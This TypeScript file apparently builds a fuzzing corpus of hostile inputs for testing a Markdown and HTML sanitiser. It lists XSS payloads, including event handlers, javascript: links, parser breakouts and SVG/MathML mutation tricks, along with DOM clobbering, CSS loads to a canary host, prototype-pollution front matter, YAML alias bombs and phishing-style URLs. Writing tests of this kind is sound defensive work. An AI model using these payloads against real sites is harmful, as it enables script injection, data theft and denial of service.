import { payloadsOf, table } from './payload.ts'
import { addressesInMarkdown } from './schemes.ts'

// Elements that run, load, send, cover or rename something, each with every attribute that does.
const tags =
  'a applet area audio base bgsound body button dialog embed fencedframe font form frame frameset html iframe image img input isindex keygen layer link main map marquee meta object option param picture portal select slot source style table template track video x-a a:b xml'
const everyAttribute =
  'id=root name=body src="{ask}" href="{ask}" srcset="{ask} 1x" data="{ask}" poster="{ask}" background="{ask}" action="{ask}" ping="{ask}" codebase="{ask}" rel=stylesheet style="position:fixed;background:url({ask})" onload="{run}" onerror=\'{run}\' onfocus={run} tabindex=1 autofocus'
const elements = tags.split(' ').map((tag) => `<${tag} ${everyAttribute}>a</${tag}>`)

const scripts = [
  ...table(`
    <SCRIPT>{run}</SCRIPT>  <script src="{ask}"></script>  <script src=//canary.example/a></script>
    <script type="module">{run}</script>  <script>{run}  <script/x>{run}</script>  <script\f>{run}</script\f>
    <scr<script>ipt>{run}</scr</script>ipt>  <scr\0ipt>{run}</scr\0ipt>  a{script}b  > {script}  # {script}
    <script type="importmap">{"imports":{"react":"{ask}"}}</script>  [{script}](https://a.example)
    <script type="speculationrules">{"prefetch":[{"urls":["{ask}"]}]}</script>`),
  ...[
    '- one\n- {script}\n- three',
    '| a |\n| - |\n| {script} |',
    'Text[^1]\n\n[^1]: {script}',
    '- a\n\n\t{script}',
  ],
  ...['<script src="{ask}"\n\nand on', '<script>\n\n{run}\n\n</script>', 'a\r<script>\r{run}\r</script>\rb'],
]

const special = table(`
  <iframe src="javascript:parent.{run}"></iframe>  <iframe src="data:text/html,<img src='{ask}'>"></iframe>
  <iframe srcdoc="&lt;script&gt;parent.{run}&lt;/script&gt;"></iframe>  <object data="javascript:{run}"></object>
  <meta http-equiv="refresh" content="0;url={ask}">  <meta http-equiv=refresh content="0;url=javascript:{run}">
  <meta http-equiv="Content-Security-Policy" content="script-src 'none'">  <link rel="prefetch" href="{ask}">
  <form action="{ask}"><input>  <form><button formaction="javascript:{run}">Reserve</button></form>
  <dialog open onclose="{run}"><form method="dialog"><button>Pay</button></form></dialog>
  <div><template shadowrootmode="open"><img src="x" onerror="{run}"></template></div>
  <details open ontoggle="{run}"><summary>a</summary></details>  <a href="javascript:{run}">click</a>
  <button popovertarget="p">a</button><div id="p" popover onbeforetoggle="{run}">b</div>
  <button popovertarget="content" commandfor="root" command="x">a</button>
  <a href="{ask}" download="menu.exe" target="_blank" rel="opener">the menu</a>
  <img usemap="#m"><map name="m"><area href="javascript:{run}" shape="default"></map>`)

// Quotes, breaks and letters that a careless reader of tags takes for something else.
const attributes = table(`
  {img}  <{img}  <img src="x" onerror="{run}">  <img src='x' onerror='{run}'>  <img/src=x/onerror={run}//>
  <img src=\`x\` onerror=\`{run}\`>  <IMG SRC=x ONERROR={run}>  <img src=x onerror="a&#x3d;{run}">
  <img\tsrc=x\tonerror\t=\t{run}\t>  <img """><img src=x onerror="{run}">"  <img src="x" " onerror="{run}">
  <img src=x \0onerror={run}>  <img src=x\vonerror={run}>  <img title=">{img}" src="x">  <img alt="\`\`onerror={run}">
  text <img src=x onerror={run}  <img src=x onerror={run} <b>bold</b>  <b hidden="until-found" onbeforematch="{run}">a</b>
  <b style="animation:a" onanimationstart="{run}" onpointerrawupdate="{run}" onmouseover="{run}">a</b>
  <b contenteditable accesskey="x" onclick="{run}" onbeforeinput="{run}" onwheel="{run}">a</b>
  <div data-post-body="">a body of its own</div>  <div data-ad-slot="6079445">an ad of its own</div>
  <div inert aria-hidden="true" hidden>  <b __proto__="x" constructor="y" innerhtml="<img>">a</b>`)

// Texts that end what the parser is in, and declarations that it skips.
const rawTexts = ['noscript', 'noembed', 'noframes', 'iframe', 'xmp', 'style', 'textarea', 'title']
const breakouts = [
  ...rawTexts.map((tag) => `<${tag}><b title="</${tag}>{img}"></${tag}>`),
  ...table(`
    </title>{script}  </script>{script}  <plaintext><b>{img}  </div></article></main></div>{script}<div>
    <select><option>{img}</select>  <table><tr>{img}</tr></table>  </p onclick="{run}"><b>  </ {img}  </br>{img}</p>
    <table><caption><table><b onfocus={run} tabindex=1 autofocus></caption>  <!-- -->{img}<!-- -->  <!-- {img}
    <!--> {img} -->  <!---> {img} -->  <!-- --!>{img} -->  <!-- <!-- --> {img} -->  <![if !IE]>{script}<![endif]>
    <!--[if gte IE 4]>{script}<![endif]-->  <![CDATA[{script}]]>  <![CDATA[ > {img} ]]>  <?a > {img} ?>
    <?xml version="1.0"?>{script}  <?xml-stylesheet href="{ask}"?>  <!DOCTYPE html [<!ENTITY x "{script}">]>&x;`),
  '<!--<script>\n\n</script>{img}',
]

// SVG and MathML run script, load, and change attributes over time.
const drawings = table(`
  <svg onload="{run}"></svg>  <svg/onload={run}>  <svg>{script}</svg>  <svg><script>a&#x3d;{run}</script></svg>
  <svg><script xlink:href="{ask}"></script><script href="{ask}"/></svg>
  <svg><a><animate attributeName="href" values="javascript:{run}"/><text y="20">a</text></a></svg>
  <svg><animate onbegin="{run}" attributeName="x" dur="1s"></svg>
  <svg><a><set attributeName="href" to="javascript:{run}"/><set attributeName="onclick" to="{run}"/>a</a></svg>
  <svg><use href="data:image/svg+xml,<svg id='x'><image href='x' onerror='{run}'/></svg>#x"/></svg>
  <svg><use xlink:href="{ask}#x"/><image href="{ask}"/><filter><feImage href="{ask}"/></filter></svg>
  <svg><foreignObject><img src="x" onerror="{run}"><iframe src="{ask}"></iframe></foreignObject></svg>
  <svg><a xlink:href="javascript:{run}"><text y="20">a</text></a></svg>  <math href="javascript:{run}">a</math>
  <svg><style>@import "{ask}";</style><rect fill="url({ask}#a)" width="9" height="9"/></svg>
  <svg><handler type="text/javascript" ev:event="load">{run}</handler></svg>
  <math><maction actiontype="statusline#http://a.example" xlink:href="javascript:{run}">a</maction></math>
  <math><annotation-xml encoding="text/html"><img src="x" onerror="{run}"></annotation-xml></math>`)

// HTML that is one tree when it is sanitised and another when it is parsed again.
const contexts = table(`
  <svg>  <svg></p>  <svg><desc>  <svg><title>  <svg><template>  <svg><noscript>  <svg><font color="x">  <svg><br>
  <math><mtext><table><mglyph>  <math><mi><mglyph></mi><malignmark>  <form><div></form><form><svg>  <select><svg>
  <math><annotation-xml encoding="text/html"><svg>  <form><math><mtext></form><form><mglyph>`)
const mutations = [
  ...contexts.map((context) => `${context}<style><b title="</style>{img}"></style>`),
  ...contexts.map((context) => `${context}<style><!--</style><img title="-->{img}">`),
  ...table(`
    <svg><title><style><b id="</style></title>{img}">  <noscript><style></noscript>{img}</style>
    <svg><noscript><b title="</noscript></svg>{img}">  <svg><![CDATA[>{img}]]></svg>
    &lt<img src=x onerror={run}&gt  &lt;img src=x onerror={run}&gt;  &amp;lt;img src=x onerror={run}&amp;gt;
    <b title="&lt;/b&gt;&lt;img src=x onerror={run}&gt;">a</b>
    <a><b><p></a><table><a href="javascript:{run}">a</b></table>`),
  '<pre>\n\n{img}</pre>',
  `${'<div>'.repeat(513)}<svg><style><b title="</style>{img}">`,
]

// Styles load, hide and cover, and once ran script.
const styles = [
  ...table(`
    <style>body{background:url({ask})}</style>  <style>@import url("{ask}");@import '{ask}';</style>
    <style>@font-face{font-family:a;src:url({ask})}*{font-family:a;display:none}
    <style>a[href^="/"]{background:image-set(url({ask}) 1x)}</style>
    <b style="background:url('{ask}');cursor:url({ask}),auto;--a:url({ask})">a</b>
    <b style="background:url(javascript:{run});width:exp/**/ression({run});width:\\65xpression({run})">a</b>
    <b style="-moz-binding:url('{ask}#xss');behavior:url({ask})">a</b>  <div style="display:none">the rest</div>
    <a href="{ask}" style="position:fixed;inset:0;z-index:99999">Continue</a>
    # a <span style="background:url({ask})">b</span>
    <div class="skip toast overlay" role="alertdialog">Your card, please</div>`),
  '```language-a&#32;skip&#10;toast\ncode\n```',
]

// Names that the page, or every object, has: an element with such a name is found in the other's place.
const properties = [
  'root',
  'content',
  'document-data',
  'getElementById',
  '__proto__',
  'constructor',
  'toString',
  'x',
]
const clobbering = [
  ...properties.flatMap((name) => [
    `<div id="${name}">another</div><img name="${name}"><form name="${name}"><input name="${name}"></form>`,
    `# ${name}\n\n## ${name}\n\n### a {#${name}}`,
    `a[^${name}]\n\n[^${name}]: one[^${name}]\n\n[^${name}]: two\n\n[^${name.toUpperCase()}]: three`,
    `[a][${name}] [${name}][] [b](#${name})\n\n[${name}]: /${name}`,
  ]),
  ...table(`
    <script id="document-data" type="application/json">{"pageId":"x","data":{}}</script>
    <a id="trustedTypes"></a><a id="trustedTypes" name="createPolicy"></a>  <iframe name="opener" src="{ask}"></iframe>
    <form><input name="attributes"><input name="parentNode"><input name="children"></form>`),
  ...['a[^fn-1] b[^1]\n\n[^fn-1]: one\n\n[^1]: two', 'a[^footnote-label]\n\n[^footnote-label]: note'],
  `${'a[^x] '.repeat(200)}\n\n[^x]: note`,
]

// Each alias is nine of the one before it.
const laughs = [...'bcdefghijklmnop'].map(
  (name, at) => `${name}: &${name} [${`*${'abcdefghijklmno'[at]}, `.repeat(9)}x]`,
)

// Front matter is dropped, and nothing in it is evaluated.
const frontMatter = [
  ...['js\n{ title: {run}, x: process.exit(3) }', 'javascript\nmodule.exports = {run}', 'coffee\n{run}'],
  ...['json\n{ "__proto__": { "isAdmin": true } }', '\ntitle: {script}', '\na: &a [*a]\n<<: *a'],
  `\na: !!js/function 'function () { {run} }'\nb: !!js/regexp /(a+)+$/`,
  `\na: &a [x, x, x, x, x, x, x, x, x]\n${laughs.join('\n')}`,
  '\n__proto__:\n  html: <img src=x>\nconstructor: x',
  '\nmetaTitle: "{script}"\nslug: ../../index\nhtml: {script}',
  ...['\na: b\n---\n---\nc: {img}', `\n${'a: b\n'.repeat(10_000)}c: {img}`, `\n${' '.repeat(20_000)}`],
].map((matter) => `---${matter}\n---\n\nText`)
const unfinished = [
  '---\na: {img}\n\nText',
  '---\na: b\n...\n{img}\n\nText',
  '+++\na = "{script}"\n+++\n\nText',
]

// Markdown whose own syntax holds texts where the HTML made of it has attributes or elements.
const escapes = [
  ...['" onmouseover="{run}', "' onmouseover='{run}", '`onmouseover={run}`', '">{img}', '\\{img}'],
  ...[
    '&quot;&gt;&lt;img/src=x/onerror={run}&gt;',
    '</a></code></pre></td></table>{script}',
    'x | " onerror="{run}',
  ],
]
const holders: ((text: string) => string)[] = [
  (text) => `[a](/menu "${text}")`,
  (text) => `[a](/menu '${text}')`,
  (text) => `[a](/menu (${text}))`,
  (text) => `[a](/menu${text})`,
  (text) => `[a](</menu${text}>)`,
  (text) => `![${text}](https://pictures.example/a.jpg '${text}')`,
  (text) => `![a](https://pictures.example/a.jpg${text})`,
  (text) => `<https://a.example/${text}> https://a.example/${text}`,
  (text) => `<a@b.example${text}> mailto:a@b.example${text}`,
  (text) => `\`\`\`${text}\ncode\n\`\`\``,
  (text) => `~~~js${text}\n${text}`,
  (text) => `    ${text}\n\n\`${text}\` \`${text}`,
  (text) => `| ${text} | b |\n| - | :-: |\n| ${text} | d |`,
  (text) => `[${text}]: /menu\n\n[${text}]`,
  (text) => {
    // The label of a footnote has no spaces.
    const label = text.replace('{img}', '<img/src=x/onerror={run}>').replaceAll(' ', '')
    return `a[^${label}]\n\n[^${label}]: note`
  },
  (text) => `# ${text}\n\n${text}\n===\n\n- [x] ${text}\n- **${text}** ~~${text}~~`,
]

const markdown = [
  ...escapes.flatMap((text) => holders.map((hold) => hold(text))),
  ...table(`
    [a](/blog/%) [b](/blog/%E0%A4%A) [c](https://a.example/%zz)  [a](/blog/\ud800) ![b](https://pictures.example/\udfff)
    [a](https://bank.example@a.example/) [b](https://user:word@a.example/)  <a@b.example?bcc=c@d.example&body=x>
    [a](\\\\\\\\a.example/x) [b](/\\\\a.example/x) [c](https:\\\\a.example)  javascript:{run} and www.javascript:{run}
    [a](https:a.example) [b](http:/a.example) [c](///a.example)  [a](javascript:) [b](:) [c](https:) [d](//)
    [a](https://a.example:99999/) ![b](https://a.example:x/)  [a](https://аpple.example/) [b](https://a。example/)
    https://bank.example:443@a.example/ and http://a@b@c.example/  [<a href="javascript:{run}">a</a>](/menu)
    http://[::1]/ http://0x7f.1/ http://127.0.0.1:9/ www.a_b.example www...example http://a..b/
    a&#0;b&#x1b;c&#xd800;d&#x110000;e&#8238;f  a\u2028{script}\u2029b\u0085c  [a [b](javascript:{run}) c](/menu)
    ![a ![b](javascript:{run}) c](https://pictures.example/a.jpg)  a\ud800b \udc00c **\udbff**
    \ufeff\ufeff{script}\ufeff  \0<\0script>{run}</script\0>\0`),
  '[a][x]\n\n[x]: /menu\n[x]: javascript:{run}\n[X]: data:,x',
  '[x]: <javascript:{run}>\n[x]: /menu\n\n[a][x]',
  '[ẞ]: javascript:{run}\n\n[a][SS] [b][ss] [c][ß]',
  '> [x]: javascript:{run}\n\n[a][x] ![b][x]',
  '| a |\n| :-: onclick={run} |\n| b |',
  `|${' a |'.repeat(300)}\n|${' - |'.repeat(300)}\n|${' b |'.repeat(300)}`,
  '- [ ] a\n  - [x] b\n\n    - [ ] c\n\n999999999. a\n\n0. b',
  '```js\0x\ncode\n```',
  'a'.repeat(30_000),
]

/** Hostile bodies, each with one attempt. */
export const bodies = Object.entries({
  ...{ elements, scripts, special, attributes, breakouts, drawings, mutations, styles, clobbering },
  ...{ frontMatter, unfinished, markdown, addresses: addressesInMarkdown },
}).flatMap(([kind, texts]) => payloadsOf(kind, texts))
